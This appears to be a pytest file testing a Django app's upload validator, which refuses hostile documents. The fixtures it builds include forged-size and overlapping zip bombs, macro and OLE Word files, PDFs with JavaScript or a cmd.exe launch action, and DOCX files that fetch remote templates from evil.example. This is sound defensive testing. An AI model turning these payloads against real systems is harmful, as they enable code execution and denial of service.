import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from laurel.nominations.models import Attachment
from laurel.nominations.uploads import check_upload
from tests.nominations.helpers import PDF, WORD, complete_post, upload, zipped
from tests.scenarios import NOMINATE, new_token

DOCX = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
ODT = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("report.pdf", PDF, "pdf"),
        ("report.docx", DOCX, "docx"),
        ("report.odt", ODT, "odt"),
        ("named-wrongly.docx", PDF, "pdf"),
    ],
)
def test_documents_are_recognised_by_their_content(name, content, kind):
    assert check_upload(upload(name, content)).kind == kind


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.pdf", b"", "The file empty.pdf is empty."),
        (
            "page.pdf",
            b"<html><script>alert(1)</script></html>",
            "The file page.pdf is not a PDF, Word (DOCX) or OpenDocument (ODT) document.",
        ),
        (
            "archive.docx",
            zipped({"notes.txt": b"hello"}),
            "The file archive.docx is not a document we can accept (PDF, DOCX or ODT).",
        ),
        (
            "bomb.docx",
            zipped(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "word/document.xml": b"\0" * (20 * 1024 * 1024),
                }
            ),
            "The file bomb.docx unpacks to far more than its size; it was refused.",
        ),
        (
            "broken.docx",
            b"PK\x03\x04 not really a zip",
            "The file broken.docx is not a document we can accept (PDF, DOCX or ODT).",
        ),
    ],
)
def test_hostile_or_broken_uploads_are_refused_with_a_message(name, content, message):
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content))

    assert caught.value.messages == [message]


def test_a_file_over_ten_megabytes_is_refused():
    big = upload("big.pdf", PDF + b"0" * (10 * 1024 * 1024))

    with pytest.raises(ValidationError, match="files may be at most 10 MB"):
        check_upload(big)


def with_declared_size(archive: bytes, member: str, size: int) -> bytes:
    """The archive with `member`'s declared size (and checksum) forged, in its local header and
    in the central directory, to match the first `size` bytes of what it really holds: a program
    that believes the directory sees a small, valid member."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        info = opened.getinfo(member)
        real = opened.read(member)
    crc = zipfile.crc32(real[:size])
    local = info.header_offset
    struct.pack_into("<L", data, local + 14, crc)
    struct.pack_into("<L", data, local + 22, size)
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(member)] != member.encode():
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<L", data, central + 16, crc)
    struct.pack_into("<L", data, central + 24, size)
    return bytes(data)


def test_a_bomb_that_declares_small_sizes_is_measured_and_refused():
    bomb = with_declared_size(
        zipped(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (50 * 1024 * 1024)}
        ),
        "word/document.xml",
        1000,
    )

    with pytest.raises(ValidationError) as caught:
        check_upload(upload("bomb.docx", bomb))

    assert caught.value.messages == [
        "The file bomb.docx unpacks to far more than its size; it was refused."
    ]


def test_one_member_listed_many_times_is_counted_each_time():
    """Overlapping entries (every directory entry points at the same data): counted per entry."""
    archive = bytearray(
        zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (1024 * 1024)})
    )
    start = archive.index(b"PK\x01\x02")
    end = archive.index(b"PK\x05\x06")
    document_entry = archive[archive.index(b"PK\x01\x02", start + 4) : end]
    copies = b"".join(
        document_entry.replace(b"word/document.xml", f"word/copy{n:04}.xml".encode()[:17])
        for n in range(300)
    )
    count = 2 + 300
    trailer = bytearray(archive[end:])
    struct.pack_into("<HH", trailer, 8, count, count)
    struct.pack_into("<L", trailer, 12, end - start + len(copies))
    forged = bytes(archive[:end]) + copies + bytes(trailer)

    with pytest.raises(ValidationError) as caught:
        check_upload(upload("overlap.docx", forged))

    assert caught.value.messages == [
        "The file overlap.docx unpacks to far more than its size; it was refused."
    ]


MACROS = "The file {} contains macros or embedded programs, which we do not accept. Save it as a plain document (DOCX, ODT or PDF) and add it again."  # noqa: E501
MACRO_TYPES = (
    b'<Types><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


@pytest.mark.parametrize(
    "members",
    [
        WORD | {"word/vbaProject.bin": b"\xd0\xcf"},
        {"[Content_Types].xml": MACRO_TYPES, "word/document.xml": b"<w/>"},
        WORD | {"word/activeX/activeX1.xml": b"<ax/>"},
        WORD | {"word/embeddings/oleObject1.bin": b"\xd0\xcf"},
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<x/>",
            "Basic/Standard/Module1.xml": b"<m/>",
        },
    ],
    ids=["vba-project", "macro-enabled-type", "activex", "ole-object", "odt-basic"],
)
def test_documents_with_macros_or_embedded_programs_are_refused(members):
    with pytest.raises(ValidationError) as caught:
        check_upload(upload("letter.docx", zipped(members)))

    assert caught.value.messages == [MACROS.format("letter.docx")]


def test_a_word_document_with_printer_settings_is_accepted():
    members = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/printerSettings/printerSettings1.bin": b"\0" * 64,
    }

    assert check_upload(upload("letter.docx", zipped(members))).kind == "docx"


@pytest.mark.django_db
def test_a_nomination_with_a_macro_document_is_refused_beside_the_field(client, child10):
    macro = zipped(
        {
            "[Content_Types].xml": MACRO_TYPES,
            "word/document.xml": b"<w/>",
            "word/vbaProject.bin": b"x",
        }
    )
    token = new_token(client)

    response = client.post(
        NOMINATE,
        complete_post(
            child10, token, action="save", attachments=[SimpleUploadedFile("plan.docx", macro)]
        ),
    )

    assert response.context["form"].errors["attachments"] == [MACROS.format("plan.docx")]
    assert Attachment.objects.count() == 0


ACTIVE = "The file {} contains scripts, links to files elsewhere or embedded files, which could act when it is opened, so we do not accept it. Save or print it as a new plain document (PDF, DOCX or ODT) and add it again."  # noqa: E501


def object_stream(dictionaries: bytes) -> bytes:
    """A PDF whose objects sit compressed in an object stream, as PDF 1.5 writers make them."""
    packed = zlib.compress(dictionaries)
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n%%EOF\n"
    )


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj",
        b"%PDF-1.4\n1 0 obj << /A << /S /Launch /F (cmd.exe) >> >> endobj",
        b"%PDF-1.4\n1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj",
        object_stream(b"2 0 << /S /JavaScript /JS (this.exportDataObject()) >>"),
    ],
    ids=["javascript", "escaped-names", "launch", "embedded-file", "in-an-object-stream"],
)
def test_a_pdf_that_acts_when_opened_is_refused(content):
    """A helper's attack: a PDF that ran JavaScript and held a launch action was accepted, and
    finance opens bank proofs in a PDF reader."""
    with pytest.raises(ValidationError) as caught:
        check_upload(upload("statement.pdf", content))

    assert caught.value.messages == [ACTIVE.format("statement.pdf")]


def test_a_pdf_with_compressed_objects_and_nothing_active_is_accepted():
    content = object_stream(b"2 0 << /Type /Page /Contents 3 0 R /Annots [] >>")

    assert check_upload(upload("report.pdf", content)).kind == "pdf"


REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
LINKED_OBJECT = (
    b"<Relationships><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/"
    b"officeDocument/2006/relationships/oleObject' Target='mhtml:https://evil.example/x!x' "
    b"TargetMode='External'/></Relationships>"
)
HYPERLINK = (
    b'<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/hyperlink" Target="https://ecpat.org/report" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "relationships"),
    [
        ("word/_rels/settings.xml.rels", REMOTE_TEMPLATE),
        ("word/_rels/document.xml.rels", LINKED_OBJECT),
    ],
    ids=["remote-template", "linked-object"],
)
def test_a_word_document_that_fetches_something_when_opened_is_refused(part, relationships):
    with pytest.raises(ValidationError) as caught:
        check_upload(upload("letter.docx", zipped(WORD | {part: relationships})))

    assert caught.value.messages == [ACTIVE.format("letter.docx")]


def test_a_word_document_with_links_to_the_web_is_accepted():
    members = WORD | {"word/_rels/document.xml.rels": HYPERLINK}

    assert check_upload(upload("letter.docx", zipped(members))).kind == "docx"
